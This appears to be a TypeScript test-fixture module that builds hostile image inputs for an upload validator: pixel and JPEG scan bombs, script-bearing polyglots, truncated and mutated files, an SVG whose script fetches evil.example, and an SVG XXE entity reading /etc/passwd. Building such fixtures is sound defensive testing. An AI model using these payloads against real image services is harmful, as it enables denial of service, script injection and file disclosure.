/** Malicious pictures: other file types, bombs, polyglots and corrupted files. */
import { deflateSync } from "node:zlib";
import sharp from "sharp";

/** A JPEG with noise like a photo. */
function aPhoto({ width = 400, height = 300 } = {}): Promise<Buffer> {
  const noise = { type: "gaussian", mean: 120, sigma: 20 } as const;
  return sharp({ create: { width, height, channels: 3, background: "red", noise } })
    .jpeg({ quality: 90 })
    .toBuffer();
}

const CRC = Array.from({ length: 256 }, (_, byte) => {
  let value = byte;
  for (let bit = 0; bit < 8; bit += 1) value = value & 1 ? (value >>> 1) ^ 0xedb88320 : value >>> 1;
  return value;
});

function pngChunk(type: string, content: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type), content]);
  const crc =
    body.reduce((sum, byte) => (sum >>> 8) ^ (CRC[(sum ^ byte) & 255] ?? 0), 0xffffffff) ^ 0xffffffff;
  const frame = Buffer.alloc(8);
  frame.writeUInt32BE(content.length);
  frame.writeUInt32BE(crc >>> 0, 4);
  return Buffer.concat([frame.subarray(0, 4), body, frame.subarray(4)]);
}

type Png = {
  /** The number of rows that really exist. */
  rows?: number;
  /** 16-bit RGBA instead of black and white, and all rows repeated seven times. */
  deepAndInterlaced?: boolean;
};

/** A black PNG of few bytes in any size. */
export function aPng(width: number, height: number, { rows = height, deepAndInterlaced }: Png = {}): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width);
  header.writeUInt32BE(height, 4);
  header.set(deepAndInterlaced ? [16, 6, 0, 0, 1] : [1, 0, 0, 0, 0], 8);
  const pixels = deepAndInterlaced ? interlacedRows(width, height) : (Math.ceil(width / 8) + 1) * rows;
  const parts = [
    pngChunk("IHDR", header),
    pngChunk("IDAT", deflateSync(Buffer.alloc(pixels))),
    pngChunk("IEND", Buffer.alloc(0)),
  ];
  return Buffer.concat([Buffer.from("\x89PNG\r\n\x1a\n", "latin1"), ...parts]);
}

/** Bytes of the seven Adam7 passes, at 8 bytes a pixel and one for each row. */
function interlacedRows(width: number, height: number): number {
  const passes = [
    [0, 0, 8, 8],
    [4, 0, 8, 8],
    [0, 4, 4, 8],
    [2, 0, 4, 4],
    [0, 2, 2, 4],
    [1, 0, 2, 2],
    [0, 1, 1, 2],
  ];
  const bytes = passes.map(([x = 0, y = 0, across = 1, down = 1]) => {
    const columns = Math.ceil((width - x) / across);
    return (columns * 8 + 1) * Math.ceil((height - y) / down);
  });
  return bytes.reduce((sum, one) => sum + one, 0);
}

/**
 * A small JPEG that keeps a decoder busy: a progressive one goes over all its blocks once for each of its "scans", and
 * one that changes nothing takes 61 bytes.
 */
export function aScanBomb(scans: number, side = 6304): Buffer {
  const segment = (marker: number, ...content: number[]) =>
    Buffer.from([0xff, marker, (content.length + 2) >> 8, (content.length + 2) & 255, ...content]);
  const size = [side >> 8, side & 255];
  const zeros = (count: number) => Array<number>(count).fill(0);
  const blocks = Math.ceil(side / 8) ** 2;
  const runs = Math.ceil(blocks / 32_767);
  // Runs of unchanged blocks, in 15 bits each: the first bit says that a run follows.
  let bits = "";
  for (let run = 0, left = blocks; run < runs; run += 1) {
    const length = Math.max(16_384, Math.min(left, 32_767));
    bits += `0${(length - 16_384).toString(2).padStart(14, "0")}`;
    left -= length;
  }
  bits = bits.padEnd(Math.ceil(bits.length / 8) * 8, "1");
  const idle = bits
    .match(/.{8}/g)
    ?.flatMap((byte) => (byte === "11111111" ? [255, 0] : [Number.parseInt(byte, 2)]));
  const scan = Buffer.concat([segment(0xda, 1, 1, 0, 1, 63, 0), Buffer.from(idle ?? [])]);
  return Buffer.concat([
    Buffer.from([0xff, 0xd8]),
    segment(0xdb, 0, ...Array<number>(64).fill(1)),
    segment(0xc2, 8, ...size, ...size, 1, 1, 0x11, 0),
    segment(0xc4, 0, 1, ...zeros(15), 0),
    segment(0xc4, 0x10, 1, 1, ...zeros(14), 0xe0, 0),
    segment(0xda, 1, 1, 0, 0, 0, 0),
    Buffer.alloc(Math.ceil(blocks / 8)),
    ...Array<Buffer>(scans).fill(scan),
    Buffer.from([0xff, 0xd9]),
  ]);
}

/** The same picture rotated, frame by frame. */
export async function anAnimation(format: "webp" | "gif", frames = 3): Promise<Buffer> {
  const photo = await aPhoto({ width: 24, height: 24 });
  const turned = Array.from({ length: frames }, (_, at) =>
    sharp(photo)
      .rotate((at % 4) * 90)
      .modulate({ brightness: 0.5 + (at % 7) / 7 })
      .png()
      .toBuffer(),
  );
  return sharp(await Promise.all(turned), { join: { animated: true } })
    .toFormat(format, { loop: 0, delay: 100 })
    .toBuffer();
}

export const SCRIPT = "<script>fetch('//evil.example')</script>";
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">${SCRIPT}</svg>`;
const XXE = `<?xml version="1.0"?><!DOCTYPE s [<!ENTITY f SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><text>&f;</text></svg>`;

/** The header of a HEIF container, as in HEIC and AVIF. */
const ftyp = (brand: string) =>
  Buffer.concat([
    Buffer.from([0, 0, 0, 24]),
    Buffer.from(`ftyp${brand}\0\0\0\0mif1${brand}`),
    Buffer.alloc(200),
  ]);

/** A Windows bitmap: 2 × 2 pixels of 24 bits. */
function aBmp(): Buffer {
  const bmp = Buffer.alloc(54 + 16, 200);
  bmp.fill(0, 0, 54);
  bmp.write("BM");
  for (const [at, value] of [
    [2, 70],
    [10, 54],
    [14, 40],
    [18, 2],
    [22, 2],
    [34, 16],
  ] as const)
    bmp.writeUInt32LE(value, at);
  bmp.set([1, 0, 24, 0], 26);
  return bmp;
}

/** Files other than one complete JPEG, PNG or WebP within the limits. */
export async function refusedFiles(): Promise<[string, Uint8Array][]> {
  const photo = await aPhoto();
  const [png, webp] = await Promise.all([sharp(photo).png().toBuffer(), sharp(photo).webp().toBuffer()]);
  return [
    ["a GIF", await sharp(photo).gif().toBuffer()],
    ["an animated GIF", await anAnimation("gif")],
    ["a TIFF", await sharp(photo).tiff().toBuffer()],
    ["an AVIF", await sharp(photo).heif({ compression: "av1" }).toBuffer()],
    ["the container of a HEIC", ftyp("heic")],
    ["the container of an AVIF", ftyp("avif")],
    ["an SVG", Buffer.from(SVG)],
    ["an SVG that reads files", Buffer.from(XXE)],
    ["a BMP", aBmp()],
    ["a PDF", Buffer.from("%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF")],
    ["HTML that is named .jpg", Buffer.from(`<!doctype html>${SCRIPT}`)],
    ["a program for Windows", Buffer.concat([Buffer.from("MZ"), Buffer.alloc(200)])],
    ["a program for Linux", Buffer.concat([Buffer.from("\x7fELF"), Buffer.alloc(200)])],
    ["a ZIP", Buffer.concat([Buffer.from("PK\x03\x04"), Buffer.alloc(200)])],
    ["nothing", Buffer.alloc(0)],
    ["the head of a JPEG only", photo.subarray(0, 200)],
    ["a JPEG cut in the middle", photo.subarray(0, photo.length / 2)],
    ["a PNG cut in the middle", png.subarray(0, png.length / 2)],
    ["a WebP cut in the middle", webp.subarray(0, webp.length / 2)],
    ["a JPEG with the head of a PNG", Buffer.concat([png.subarray(0, 8), photo.subarray(8)])],
    ["an animated WebP", await anAnimation("webp")],
    ["a small file that would unfold to 50000 × 50000 pixels", aPng(50_000, 50_000, { rows: 100 })],
    ["one of more than 40 megapixels", aPng(6400, 6400)],
    ["one with a side of more than 16384", aPng(16_385, 8)],
  ];
}

/** Polyglot photos with `SCRIPT` in them: a sniffing browser would run it. */
export async function polyglots(): Promise<Buffer[]> {
  const photo = await aPhoto();
  const text = Buffer.from(SCRIPT);
  const comment = Buffer.concat([Buffer.from([0xff, 0xfe, 0, text.length + 2]), text]);
  const png = await sharp(photo).png().toBuffer();
  const zip = Buffer.from(`PK\x03\x04${"\0".repeat(26)}PK\x05\x06${"\0".repeat(18)}`, "latin1");
  return [
    Buffer.concat([photo, text]),
    Buffer.concat([photo.subarray(0, 2), comment, photo.subarray(2)]),
    Buffer.concat([
      png.subarray(0, -12),
      pngChunk("tEXt", Buffer.concat([Buffer.from("Comment\0"), text])),
      png.subarray(-12),
    ]),
    Buffer.concat([photo, zip, text]),
  ];
}

/** Seeded random numbers from 0 to 1 (mulberry32). */
function numbers(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
}

/** Photos with bytes changed, removed, doubled or mixed between types; deterministic by seed. */
export async function* mutatedPictures(count: number, seed: number): AsyncGenerator<Buffer> {
  const next = numbers(seed);
  const below = (limit: number) => Math.floor(next() * limit);
  const whole = await wholePictures();
  const any = () => whole[below(whole.length)] ?? Buffer.alloc(0);
  for (let made = 0; made < count; made += 1) {
    const [one, other] = [Buffer.from(any()), any()];
    const at = below(one.length);
    const kind = below(10);
    if (kind === 0) yield one.subarray(0, at);
    else if (kind === 1) yield Buffer.concat([other.subarray(0, 2 + below(60)), one.subarray(2 + below(60))]);
    else if (kind === 2) yield Buffer.concat([one.subarray(0, at), one.subarray(below(one.length))]);
    else if (kind === 3) yield Buffer.concat([one.subarray(0, at), other.subarray(below(other.length))]);
    else {
      // Sometimes only in the header, which contains sizes and counts.
      const reach = kind < 7 ? Math.min(one.length, 400) : one.length;
      const changes = 1 + below(kind < 7 ? 20 : 1000);
      for (let change = 0; change < changes; change += 1) one[below(reach)] = below(256);
      yield one;
    }
  }
}

async function wholePictures(): Promise<Buffer[]> {
  const photo = await aPhoto({ width: 160, height: 120 });
  return Promise.all([
    photo,
    sharp(photo).jpeg({ progressive: true }).withMetadata({ orientation: 6 }).toBuffer(),
    sharp(photo).toColourspace("cmyk").jpeg().toBuffer(),
    sharp(photo).png().toBuffer(),
    sharp(photo).png({ palette: true, progressive: true }).toBuffer(),
    sharp(photo).webp().toBuffer(),
    sharp(photo).ensureAlpha(0.5).webp({ lossless: true }).toBuffer(),
    anAnimation("webp"),
  ]);
}
